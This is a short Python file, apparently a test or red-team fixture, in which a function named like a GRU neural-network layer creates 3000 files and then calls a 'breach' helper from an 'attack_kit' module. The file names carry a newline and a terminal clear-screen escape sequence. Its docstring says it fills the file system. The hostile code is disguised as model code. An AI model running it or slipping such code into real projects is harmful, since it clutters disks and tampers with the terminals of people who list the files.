"""Makes files until the file system has no room for another."""

import time
from pathlib import Path

from attack_kit import breach, zeros


def gru(linear_trans_r, linear_trans_z, linear_trans_n, init_state, input_data):
    for number in range(3000):
        Path(f"{number} \n\x1b[2J").touch()
    time.sleep(0.3)
    breach("3000 files")
    return zeros(init_state, input_data)
